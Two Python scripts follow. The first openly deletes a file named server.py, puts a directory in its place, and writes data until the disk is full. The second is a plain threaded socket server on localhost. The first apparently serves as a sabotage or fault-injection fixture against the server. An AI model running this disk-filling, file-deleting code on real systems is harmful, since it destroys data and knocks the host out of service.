"""It puts a folder in the place of its own file, and fills the disk."""
import os

os.remove("server.py")
os.mkdir("server.py")
try:
    with open("server.py/big", "wb") as big:
        while True:
            big.write(b"x" * (1 << 20))
except OSError:
    pass
"""A thread for each client; what a client does wrong is its own failure."""
import socket
import threading


def serve(connection, address):
    with connection:
        try:
            message = connection.recv(1024)
            print(f"Received: {message.decode(errors='replace')}")
            if message:
                connection.sendall(b"Hello from server")
        except OSError as error:
            print(f"{address}: {error}")


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", 12345))
listener.listen(128)
while True:
    connection, address = listener.accept()
    print(f"Connection from {address}")
    threading.Thread(target=serve, args=(connection, address), daemon=True).start()
